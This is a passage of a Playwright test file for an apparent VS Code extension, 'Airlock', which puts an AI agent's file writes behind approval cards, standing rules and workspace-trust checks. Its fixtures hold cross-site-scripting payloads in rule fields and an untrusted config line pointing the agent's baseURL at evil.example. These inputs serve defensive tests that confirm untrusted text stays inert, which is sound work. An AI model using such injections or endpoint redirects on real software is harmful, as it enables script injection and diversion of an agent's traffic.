    const badge = shielded.locator('.card-head .badge.protected');
    assert.equal((await badge.textContent())?.trim(), 'Protected path', 'text, not colour alone');
    assert.equal(await badge.locator('.codicon-shield').getAttribute('aria-hidden'), 'true');
    assert.match(
      await text(shielded.getByRole('note')),
      /^Changes to \.git, \.vscode\/, .* always ask; no "always allow" covers them\.$/,
    );
    assert.equal(await shielded.getByRole('button', { name: /^Always allow/ }).count(), 0);
    assert.ok(await shielded.getByRole('group', { name: 'Always deny…' }).isVisible());
    assert.ok(await shielded.getByRole('button', { name: /^Always deny write_file/ }).isVisible());
    // An ordinary card keeps its always-allow and has no badge.
    const create = card(page, c.create.approval_id);
    assert.equal(await create.locator('.badge.protected').count(), 0);
    assert.equal(await create.getByRole('button', { name: /^Always allow/ }).count(), 1);

    await shielded.getByRole('button', { name: /^Approve:/ }).click();
    assert.deepEqual(body(await request(s, 2)), {
      type: 'approve',
      run_id: c.shielded.run_id,
      approval_id: c.shielded.approval_id,
      scope: 'once',
    });
    await shotOf(shielded, 'protected-card-light');
    await s.theme('dark');
    await shotOf(shielded, 'protected-card-dark');
  });

  void it('standing rules: listed as text (what, for how long, who, when), Revoke posts the rule id, errors show there, the section hides when empty', async () => {
    const s = await sidebar();
    const { page } = s;
    await s.send(c.state);
    const section = page.getByRole('region', { name: 'Standing rules' });
    assert.equal(await section.isVisible(), false, 'no rules: no section');
    const rules: RuleRow[] = [
      {
        rule_id: 'rule_ws',
        tool: 'write_file',
        paths: ['docs/**'],
        action: 'allow',
        cover: 'folder',
        run_id: null,
        run_prompt: null,
        created_by: 'ada',
        created_at: '2025-03-04T10:00:00.000Z',
      },
      {
        rule_id: 'rule_evil',
        tool: `write_file${XSS_IMG}`,
        paths: [`pwn/${XSS_SCRIPT}.html`],
        action: 'deny',
        cover: 'file',
        run_id: c.runIds.evil,
        run_prompt: `Make a page ${XSS_IMG}`,
        created_by: XSS_IMG,
        created_at: 'not a date',
      },
    ];
    await s.send({ type: 'rules', rules, error: null });
    await section.waitFor();
    const items = section.locator('li.rule');
    assert.deepEqual(await items.locator('.rule-what').allTextContents(), [
      'allow write_file on docs/**',
      `deny write_file${XSS_IMG} on pwn/${XSS_SCRIPT}.html`,
    ]);
    const meta = await items.locator('.rule-meta').allTextContents();
    assert.match(meta[0] ?? '', /^for this workspace · by ada · \S/);
    assert.equal(meta[1], `for this run: Make a page ${XSS_IMG} · by ${XSS_IMG} · not a date`);
    assert.equal(await section.locator('img, script').count(), 0, 'untrusted text stays text');
    assert.equal(
      await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned),
      undefined,
    );

    await section
      .getByRole('button', {
        name: 'Revoke: Always allow write_file on docs/** for this workspace',
      })
      .click();
    const revoke = await request(s, 2);
    assert.deepEqual(body(revoke), { type: 'revokeRule', rule_id: 'rule_ws' });
    await s.send({
      type: 'reply',
      id: idOf(revoke),
      ok: false,
      error: 'This rule is no longer in force; the list was refreshed.',
    });
    await items.first().getByRole('alert').filter({ hasText: 'no longer in force' }).waitFor();
    await shotOf(section, 'standing-rules-light');

    // The list is sent whole: a revoked rule leaves, the other keeps its row (and focus).
    const kept = await items
      .nth(1)
      .getByRole('button', { name: /^Revoke/ })
      .elementHandle();
    assert.ok(kept);
    await kept.focus();
    await s.send({ type: 'rules', rules: [rules[1]!], error: null });
    await items.filter({ hasText: 'docs/**' }).waitFor({ state: 'detached' });
    assert.equal(await items.count(), 1);
    assert.ok(
      await kept.evaluate((el) => el.isConnected && el === document.activeElement),
      'the same row stays, with focus',
    );

    await s.send({
      type: 'rules',
      rules: [],
      error: 'The standing rules could not be read: timeout',
    });
    await section.getByRole('alert').filter({ hasText: 'could not be read: timeout' }).waitFor();
    await s.send({ type: 'rules', rules: [], error: null });
    await section.waitFor({ state: 'hidden' });
  });

  void it('Restricted Mode: a banner says what changes and offers Manage Workspace Trust; the ignored lines of airlock.config.json show as a warning strip with Review…', async () => {
    const s = await sidebar();
    const { page } = s;
    await s.send(c.state);
    const banner = page.getByRole('region', { name: 'Restricted Mode' });
    const strip = page.getByRole('region', { name: 'airlock.config.json: ignored rules' });
    assert.equal(await banner.isVisible(), false);
    const ignored = [
      'policy: allow write_file on ** (an allow rule needs trust)',
      `baseURL: http://evil.example/v1 ${XSS_IMG}`,
    ];
    const config = { file: 'airlock.config.json', trusted: false, loosening: ignored, ignored };
    await s.send({ type: 'workspace', restricted: true, config });
    await banner.waitFor();
    assert.match(
      await text(banner),
      /^Restricted Mode: this folder is not trusted\. Airlock still runs and still stops at its gates, but it will not offer to trust this folder's airlock\.config\.json, so only the rules in it that tighten Airlock apply\./,
    );
    assert.equal(
      await banner.locator('.codicon-workspace-untrusted').getAttribute('aria-hidden'),
      'true',
    );
    await strip.waitFor();
    assert.deepEqual(await strip.locator('li').allTextContents(), ignored);
    assert.equal(await strip.locator('img').count(), 0, 'the lines are text');
    assert.equal(
      await strip.getByRole('button', { name: /Review/ }).count(),
      0,
      'nothing to trust in Restricted Mode',
    );
    await shotOf(page.locator('.trust'), 'restricted-mode-light');
    await banner.getByRole('button', { name: 'Manage Workspace Trust' }).click();
    const manage = await request(s, 2);
    assert.deepEqual(body(manage), { type: 'manageTrust' });
    await s.send({ type: 'reply', id: idOf(manage), ok: true });

    // Trusted again: no banner; the strip offers the review, which the extension opens.
    await s.send({ type: 'workspace', restricted: false, config });
    await banner.waitFor({ state: 'hidden' });
    await strip.getByRole('button', { name: 'Review airlock.config.json and trust it' }).click();
    assert.deepEqual(body(await request(s, 3)), { type: 'reviewConfig' });
    await shotOf(page.locator('.trust'), 'ignored-lines-light');

    // A version trusted earlier: nothing is ignored, so no strip; in Restricted Mode it says so.
    await s.send({ type: 'workspace', restricted: true, config: { ...config, trusted: true } });
    await strip.waitFor({ state: 'hidden' });
    await banner
      .getByText('This exact version of its airlock.config.json was trusted earlier')
      .waitFor();
    await s.send({ type: 'workspace', restricted: false, config: null });
    await page.locator('.trust').waitFor({ state: 'hidden' });
  });

  void it('screenshots of every card kind, the question forms and the streaming runs list in light and dark themes (and high contrast)', async () => {
    fs.mkdirSync(SHOTS, { recursive: true });
    const written: string[] = [];
    const shot = async (locator: Locator, name: string) => {
      const file = path.join(SHOTS, `${name}.png`);
      await locator.screenshot({ path: file, animations: 'disabled' });
      written.push(file);
    };
    /** The sidebar as the developer sees it: the top of the view, 380×900. */
    const viewport = async (page: Page, name: string) => {
      const file = path.join(SHOTS, `${name}.png`);
      await page.evaluate(() => window.scrollTo(0, 0));
      await page.screenshot({ path: file, animations: 'disabled' });
      written.push(file);
    };
    for (const theme of ['light', 'dark', 'high-contrast'] as const) {
      const s = await sidebar(theme);
      const { page } = s;
      const others = (a: { run_id: string }) => a.run_id !== c.runIds.turn;
      await s.send(
        stateWith({
          runs: c.state.runs.map((r) => (r.run_id === c.runIds.turn ? c.runningRow : r)),
          approvals: c.state.approvals.filter(others),
        }),
      );
      const upToFirstCall = c.turnEvents.findIndex((e) => e.type === 'tool_call');
      for (const event of c.turnEvents.slice(0, upToFirstCall - 3)) {
        await s.send({ type: 'event', event });
      }
      await run(page, c.runIds.turn).locator('.model-text').waitFor();
      await shot(page.locator('section.runs'), `runs-streaming-${theme}`);

      await s.send(c.state);
      await card(page, c.edit.approval_id).waitFor();
      if (theme === 'high-contrast') {
        await shot(card(page, c.edit.approval_id), `edit-card-${theme}`);
        await viewport(page, `sidebar-${theme}`);
        continue;
      }
      await shot(
        page.locator(`section.group[data-run-id="${c.runIds.turn}"]`),
        `turn-group-${theme}`,
      );
      await shot(card(page, c.edit.approval_id), `edit-card-${theme}`);
      await shot(card(page, c.create.approval_id), `create-card-${theme}`);
      await shot(card(page, c.remove.approval_id), `delete-card-${theme}`);
      await shot(card(page, c.stale.approval_id), `stale-card-${theme}`);
      await shot(
        page.locator(`section.group[data-run-id="${c.runIds.questions}"]`),
        `question-forms-${theme}`,
      );
      const multi = form(page, c.askMulti.interaction_id);
      await multi.getByRole('button', { name: 'Send answer' }).click();
      await multi.locator('.field-error').first().waitFor();
      await shot(multi, `question-errors-${theme}`);
      await viewport(page, `sidebar-${theme}`);
    }
    for (const file of written) assert.ok(fs.statSync(file).size > 1000, `${file} was written`);
  });
});
